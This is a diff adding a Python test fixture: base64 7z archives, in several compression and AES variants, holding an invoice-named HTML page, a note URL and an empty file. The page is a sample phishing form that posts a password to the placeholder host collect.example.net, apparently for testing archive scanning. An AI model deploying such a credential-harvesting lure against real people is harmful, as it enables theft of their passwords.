@@ -1,0 +1,76 @@
+"""7z archives of PAGE (請求書.html), NOTE (docs/note.txt) and an empty file, one for each way of packing; locked with `sakura77`."""
+
+import base64
+
+PAGE = b'<html><body><form action="https://collect.example.net/in"><input type=password></form></body></html>'
+NOTE = "https://note.example.net/ 読んで".encode()
+_FILES = {
+    "lzma2": (
+        "N3q8ryccAATfUAA/BwEAAAAAAAAWAAAAAAAAAGviLzvgAIYAbV0AHhoKhu9K1xklGXCsurT1sh6bUXguWG3//qMCLELKqYK9QEHNdtRn5Ng3rpa3NoSXBc3Y"
+        "2u3m6OgfTJt19BIuCaAEl+vJNuHX7REwYHsarzhO5EZEeQGDQsQHfu1G0UnxmhRwqq3SHmjFWurJAADgAK4Ail0AAIEzB64P1J7d9UIQ+iJr+bpMmobtlEle"
+        "4dLWQfUB3CkgUR5YnPUpRow4MQNqC7gxu45T7z9GUpF1ItzrJmPJVLu9GfGYBwEiVSPg62mfMwmE55uyzmULmiiavTRHFnz9Mgh2hyRBlM7j59yg2jBalI25"
+        "AC47eU/QdDxftAWuYpfXH4KNUtQuAAAAABcGdQEJgJIABwsBAAEhIQEYDICvAAA="
+    ),
+    "lzma": (
+        "N3q8ryccAAQLW28GAgEAAAAAAAAWAAAAAAAAAKWraFcAHhoKhu9K1xklGXCsurT1sh6bUXguWG3//qMCLELKqYK9QEHNdtRn5Ng3rpa3NoSXBc3Y2u3m6Ogf"
+        "TJt19BIuCaAEl+vJNuHX7REwYHsarzhO5EZEeQGDQsQHfu1G0UnxmhRwqq3SHmjFwvgC7P/dYDAA4ACqAIddAACBMweuD9SFDsVCFfazicTh+ehR1Xf4DWb3"
+        "NlX67foMQqLIg+6FIYihUoNkOmjgAhMBwVUKUO3VNSrQdOFWE6gQLY91LtAkZcthHEm/rnlKQtBsoMZJIxq/k8BnUMMa7qL4o6yRVkNb3uNnl2dz8bspZ/u4"
+        "1CNpJ+41xR89TueGzAnE6AAAAAAXBnMBCYCPAAcLAQABISEBGAyAqwAA"
+    ),
+    "x86_lzma2": (
+        "N3q8ryccAATfUAA/BwEAAAAAAAAWAAAAAAAAAGviLzvgAIYAbV0AHhoKhu9K1xklGXCsurT1sh6bUXguWG3//qMCLELKqYK9QEHNdtRn5Ng3rpa3NoSXBc3Y"
+        "2u3m6OgfTJt19BIuCaAEl+vJNuHX7REwYHsarzhO5EZEeQGDQsQHfu1G0UnxmhRwqq3SHmjFWurJAADgAK4Ail0AAIEzB64P1J7d9UIQ+iJr+bpMmobtlEle"
+        "4dLWQfUB3CkgUR5YnPUpRow4MQNqC7gxu45T7z9GUpF1ItzrJmPJVLu9GfGYBwEiVSPg62mfMwmE55uyzmULmiiavTRHFnz9Mgh2hyRBlM7j59x7tqBxYRaq"
+        "OiL5JKO0c3iTaaCCrhjHdrLseHzpAAAAABcGdQEJgJIABwsBAAEhIQEYDICvAAA="
+    ),
+    "x86_lzma": (
+        "N3q8ryccAARanx4LBwEAAAAAAAAWAAAAAAAAAFoWnewAHhoKhu9K1xklGXCsurT1sh6bUXguWG3//qMCLELKqYK9QEHNdtRn5Ng3rpa3NoSXBc3Y2u3m6Ogf"
+        "TJt19BIuCaAEl+vJNuHX7REwYHsarzhO5EZEeQGDQsQHfu1G0UnxmhRwqq3SHmjFwvgC7P/dYDAA4ACuAIxdAACBMweuD9SFDsVCEPoifORGkulj9cLl8KL/"
+        "WCTnJZF8l87CClMZoQVD/DJ2gzLON2r/GUaQIrNNZT6811bq5e+qdmkAffIOSBWjRb+IGW2ABzbchgGTyIiKTM2MzAhVYe2aif1bWyCEn9oakaXkQ3RLBw9h"
+        "nSZwE2hgCzigVqNWFUvXTSP0iu0QAAAAABcGcwEJgJQABwsBAAEhIQEYDICvAAA="
+    ),
+    "delta": (
+        "N3q8ryccAATExnD4FwEAAAAAAAAXAAAAAAAAAApuAIPgAIYAfF0AHgr9m7Btc+LVqknge96ue8oAxVl7yIWcglBLyppt4eDWzi4W+B8tXzwehNBLZfcvpPsI"
+        "REAOtnZv6gCEzOw8AZEBJhipihF6nYupYEoCty3KGRNLPV3xTsQcHknOztt7vbh6mChGZn2MDQD5gyZh1KWZHwkvnS1gQD2AAADgAK4Ai10AAIEzB64P1S++"
+        "IhZsJwHg7tNLRVmTe/OlFVAxA3ODzYQKtKZkgvz0RKB8l4A5ADbcJkGZXl3rkHEOeyL4R7xDY/Q5vQwJnD6+haQ1sw9E2mnTJ3MSyiPZ3HltIJfyOW1SH9At"
+        "YSztGrpfzZn8JQMIC7f/pqenFyfJIcurPB7p16ZF72Wp03mFzAAAAAAXBoCEAQmAkwAHCwEAASEhARgMgK8AAA=="
+    ),
+    "bzip2": (
+        "N3q8ryccAARGL5HXIQEAAAAAAAAXAAAAAAAAAHX2f2BCWmg5MUFZJlNZl592bAAADJnxUAGAFz9n3uAwAAgAAJIIQCAAchqgNGgZGRppkw0CVT0JHmqeU/U1"
+        "NG1HqeoArbPWTQQSQu5B7rE8j0korXGyM5sHajIut7nJSKMdBVRKVc+NSRJeBmTLwmK+x1di5W+2hQhPLQcNfv4DXPBxaGnzyHwMQjGhFTaou5IpwoSEvPuz"
+        "YOAApgCEXQAAgTMHrg/VMB6SVmwpH0dLv0OVCDM8tFT4V3U/x3aZ8hqFfxqIEoR/SQTFEnX5ZCaGquSAg5EL2mHP40CygEEWwVj1Y4pjX7xtSc8ATQEIYnT8"
+        "jE633OipwScpMBno9X7kDBOUFEFuVP5PF74f4we9bh8dztNB1qksT3mGiMPccYoAAAAAFwaAlQEJgIwABwsBAAEhIQEYDICnAAA="
+    ),
+    "deflate": (
+        "N3q8ryccAAQXbgdR+AAAAAAAAAAWAAAAAAAAADcFGjmzySjJzbGzScpPqbSzScsvylVITC7JzM+zVcooKSkottLXT87PyUlNLtFLrUjMLchJ1ctLLdHPzFOy"
+        "s8nMKygtUSipLEi1LUgsLi7PL0qxs9EHmQGkIAbqg02HmZSXX5KKYozCi1VrHzdNfty4HADgAKIAgV0AAIEzB64P1FFwvUDAkM7lyzKfGU0lZyoT4s4oFIy9"
+        "JBL0HjTWpmosa0iQowQ3xuEA+SDNU3E6E/+GKSnVEogVzdsxhGcJrLN36WvPl+IhDk5UOSrvBjpmBf+NI2Wb002HwX1jZ9n610XM9Iu+OKRFjAVaZYZpCvMm"
+        "2Qh2gBRPkAAAABcGbwEJgIkABwsBAAEhIQEYDICjAAA="
+    ),
+    "copy": (
+        "N3q8ryccAASfupJ0DQEAAAAAAAAXAAAAAAAAANglvJQ8aHRtbD48Ym9keT48Zm9ybSBhY3Rpb249Imh0dHBzOi8vY29sbGVjdC5leGFtcGxlLm5ldC9pbiI+"
+        "PGlucHV0IHR5cGU9cGFzc3dvcmQ+PC9mb3JtPjwvYm9keT48L2h0bWw+aHR0cHM6Ly9ub3RlLmV4YW1wbGUubmV0LyDoqq3jgpPjgafgAJ4Afl0AAIEzB64P"
+        "1S/PJtZsKR9OP9NmECs+AxRn82evaxNxQTaMNxlBsaf0D23YQ7m2rq5OQEOkWr2iCmeL3V/GFMww8DYIkTkRlRB6jctWNdGTrqL/tF2WnCxlfUlNdwL2Ge3O"
+        "zytTgCaYyN41bPp7F5/qzRO3oMy1XE4AhKn5AAAAABcGgIcBCYCGAAcLAQABISEBGAyAnwAA"
+    ),
+    "aes": (
+        "N3q8ryccAARAscJnLgEAAAAAAAAXAAAAAAAAAHEYe3PYP9FwTrvKec93HrnGw/qWGANlU19BD88xBlQd54NaZpCybYJPmUHYLnsumUNgOjlkmG9FCevCN9Yo"
+        "P68mf1e81TTu2ORdrYAFhVTDNdwIRMujdEob1CPvKhhTvN2/aHzt4af55Y+gjv+HSi31rfR3vM2JK339Zxc8Vx91SEdxL+AAxgCmXQAAgTMHrg/VNSsEMdSm"
+        "6d+wd/Ol8M4xsoTzyAdG020TF2RF1dxa+h6givgpWmTn4jqmKOeC7Urgux1MGCC3KxunhRz1WXw/hiKDVjoDVSpwOKGPU/zOb1Xr8/5B+8xwzUWrMYp98jgE"
+        "fdzjFUL5zpMGrXWjPAEqJgoYnAkMch+y4QtUe/YABA3FgjMRZaZAvABPafNk6kWdWEZp2Cxrn937o7LfAAAAABcGgIABCYCuAAcLAQABISEBGAyAxwAA"
+    ),
+    "aes_names": (
+        "N3q8ryccAATDuIlxUAEAAAAAAAArAAAAAAAAAL7jaALGgyJUA7aJAQyWeby4rjvnsQVAjzzKJUQmH98DOEiK291F5F7jcITQtx6x95shMPvPKl7D9r6fr/xV"
+        "NFKk/mej+Fn2oZFgX0gbDzAWRpBgpLXAmwrNXNPxuWLqxKrwFddl7bio1Jb1KclJ0vhwaTJ0OwmQ1KclnFPfhFuSC+m/fN2luOCzZm6n0fEQGqy3MMLRt9iD"
+        "sRIsflaIxeLi4jBA9EQPUa10tIonXFynlswRTaweIqeTXumDfOkuF+IKcTnOWvqgFCiloS9SNYnrUiWSvUds5DmY8TGA+ofsQd5Hv16sfLAWA+z+App8jVtQ"
+        "mwxSR6GgPL6+UMDoA/wdEikb2DCNvtkccyJge57WOJOcnnLfzUGm7rXRTblad5CfqD/2UwOqobmwzXU0YMlFCwAmMvhrkiuePp4TdQQjvpDBIyS67t9z0wY/"
+        "189hbNRGwDgXBoCAAQmA0AAHCwEAASQG8QcBElMPAZ11QgY3xmmpbScceZEZpQyAxwAA"
+    ),
+    "zstd": (
+        "N3q8ryccAASXKhSEBwEAAAAAAAAWAAAAAAAAAG5jD6cotS/9AFiFAwByRhghsCcdxyXJCCqFykQiHVq6x5byMZJBJO1iIJfiXhTJJQ4GiEJzMDSKxOLsmxFT"
+        "mWsFUxPXg/dQQ7YxPxc0VqkGK/zysasxRNjjadfqhAh47V8MhFs9ocNcK6lM0oHUxb5kBBAGyqGGILyHUcMZ4ACmAIZdAACBMweuD9TSfFlCFfazrQ7yZgnT"
+        "ZfjlVBzOUEGUnfeeczyFSCxrjVAMqFL2YlQwwQlEOgMnOjast4V1mX7md7KCmG6UQ0duWaK2Qr782buO2/reXSgCk/wNxHqdpGXATYRCkWEAN/QwBaSC/9Is"
+        "e26pKOtIOQsRSFnN8CwScl0hP6WnAAAAABcGeQEJgI4ABwsBAAEhIQEYDICnAAA="
+    ),
+}
+ARCHIVES = {name: base64.b64decode(data) for name, data in _FILES.items()}
